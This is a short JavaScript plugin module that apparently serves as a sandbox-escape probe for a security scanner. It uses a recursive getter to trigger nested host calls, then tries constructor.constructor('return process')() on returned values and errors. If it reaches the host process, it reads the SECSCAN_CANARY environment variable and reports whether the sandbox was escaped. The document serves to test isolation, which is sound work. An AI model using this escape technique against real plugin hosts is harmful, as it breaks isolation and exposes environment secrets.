// A getter in an argument makes a host call of its own, and that one another.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    let depth = 0;
    const value = {
      get again() {
        depth += 1;
        if (depth < 30) {
          ctx.storage.set('k' + depth, value).catch(look);
          ctx.log.info(value);
        }
        return depth;
      },
    };
    try {
      await ctx.storage.set('k', value);
      look(await ctx.storage.get('k'));
    } catch (error) {
      look(error);
    }
    return { metadata: verdict() };
  },
};
